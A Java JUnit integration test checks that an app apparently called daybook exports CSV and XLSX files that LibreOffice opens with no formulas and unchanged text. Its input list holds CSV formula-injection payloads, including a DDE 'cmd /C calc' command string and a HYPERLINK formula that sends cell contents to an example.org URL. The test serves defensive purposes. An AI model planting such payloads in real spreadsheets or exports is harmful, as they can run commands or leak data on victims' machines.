package daybook.blackbox;

import static daybook.blackbox.RunAssert.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

/** LibreOffice opens what daybook exports for spreadsheets: no hostile text becomes a formula, and in a workbook none changes. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class SpreadsheetIT {

    private static final List<String> LIVE = List.of(
            "=1+1",
            "=HYPERLINK(\"https://example.org/?\"&A1,\"here\")",
            "=cmd|' /C calc'!A0",
            "@SUM(1,1)",
            "+44 7700 900123",
            "-2+3+cmd|' /C calc'!A0",
            "a,=1+1",
            "a;=1+1",
            "a\t=1+1",
            "a\n=1+1",
            "a\",=1+1,\"",
            "\";=1+1;\"",
            "\"\t=1+1",
            "\t=1+1",
            "'=1+1",
            "|=1+1",
            "\uFF1D1+1",
            "01234",
            "1e9",
            "1/2",
            "20/11/2026",
            "TRUE",
            "  both ends  ",
            "_x0041_ and _x005F_x0041_",
            "a\u0001b\u001Bc\uFFFFd",
            "<b>&amp;]]>");

    /** Of a workbook that LibreOffice writes as CSV. */
    private static final String AS_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1";

    private Path folder;
    private Program daybook;
    private List<String> texts = List.of();

    @BeforeAll
    void addHostileEntries(@TempDir Path shared) throws IOException {
        Tools.assume("soffice");
        folder = shared;
        daybook = Logs.with(folder).within(Duration.ofMinutes(3));
        texts = texts();
        StringBuilder lines = new StringBuilder();
        for (String text : texts) {
            ObjectNode entry = Logs.JSON.createObjectNode();
            entry.put("kind", "message")
                    .put("description", text)
                    .put("exact_words", text)
                    .put("identifier", text);
            lines.append(entry).append('\n');
        }
        Files.writeString(folder.resolve("hostile.jsonl"), lines);
        assertThat(daybook.run("import", "jsonl", "hostile.jsonl")).exited(0);
    }

    /** What this class adds, the project's own hostile words, and the big list of naughty strings where it is at hand. */
    private static List<String> texts() throws IOException {
        List<String> texts = new ArrayList<>(LIVE);
        for (String line : Files.readAllLines(Path.of("src/test/resources/daybook/blackbox/naughty.jsonl"))) {
            texts.add(Logs.JSON.readTree(line).asString());
        }
        String data = System.getProperty("daybook.shared.data");
        Path list = data == null ? null : Path.of(data, "text", "blns.json");
        if (list != null && Files.exists(list)) {
            for (JsonNode each : Logs.JSON.readTree(Files.readString(list))) {
                texts.add(each.asString());
            }
        }
        texts.removeIf(text ->
                text.isBlank() || text.codePoints().anyMatch(c -> c == 0 || (c >= 0xD800 && c <= 0xDFFF)));
        return texts;
    }

    @ParameterizedTest
    @ValueSource(ints = {',', ';', '\t'})
    void noCellOfCsvForSpreadsheetsIsAFormulaWhateverTheSeparator(int separator) throws IOException {
        assertThat(daybook.run("export", "csv", "--spreadsheet", "--force", "-o", "log.csv"))
                .exited(0);

        assertThat(opened("log.csv", separator)).contains("<table:table-row").doesNotContain("table:formula");
    }

    @Test
    void withoutThatProtectionThereAreFormulas() throws IOException {
        daybook.run("export", "csv", "-o", "plain.csv");

        assertThat(opened("plain.csv", ',')).contains("table:formula");
    }

    @Test
    void aWorkbookHasNoFormula() throws IOException {
        daybook.run("export", "xlsx", "--force", "-o", "log.xlsx");

        assertThat(daybook.shell("soffice --headless --convert-to fods --outdir xlsx log.xlsx"))
                .exited(0);

        assertThat(Files.readString(folder.resolve("xlsx/log.fods")))
                .contains("<table:table-row", "table:name=\"Legend\"")
                .doesNotContain("table:formula");
    }

    @Test
    void everyTextOfAWorkbookIsAsItWasWritten() throws IOException {
        daybook.run("export", "xlsx", "--force", "-o", "log.xlsx");

        assertThat(daybook.shell("soffice --headless --convert-to \"$1\" --outdir csv log.xlsx", AS_CSV))
                .exited(0);

        String sheet = Files.readString(folder.resolve("csv/log-Entries.csv"));
        List<String> shown = new ArrayList<>();
        try (CSVParser rows = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(sheet))) {
            for (CSVRecord row : rows) {
                shown.add(brokenAsByLibreOffice(row.get("What happened")));
                shown.add(brokenAsByLibreOffice(row.get("Exact words")));
                shown.add(brokenAsByLibreOffice(row.get("Number, handle or address used")));
            }
        }
        List<String> written = new ArrayList<>();
        for (String text : texts) {
            String line = brokenAsByLibreOffice(text);
            written.addAll(List.of(line, line, line));
        }
        assertThat(shown).isEqualTo(written);
    }

    /** Of a cell with several lines LibreOffice keeps one kind of line break; that each is kept in the file, a test of the writer shows. */
    private static String brokenAsByLibreOffice(String text) {
        return text.replace("\r\n", "\n").replace('\r', '\n');
    }

    /** A file of CSV as LibreOffice takes it with that separator. */
    private String opened(String file, int separator) throws IOException {
        String out = file + "-" + separator;
        assertThat(daybook.shell(
                        "soffice --headless --infilter=CSV:$1,34,76,1 --convert-to fods --outdir \"$2\" \"$3\"",
                        Integer.toString(separator),
                        out,
                        file))
                .exited(0);
        return Files.readString(folder.resolve(out).resolve(file.replace(".csv", ".fods")));
    }
}
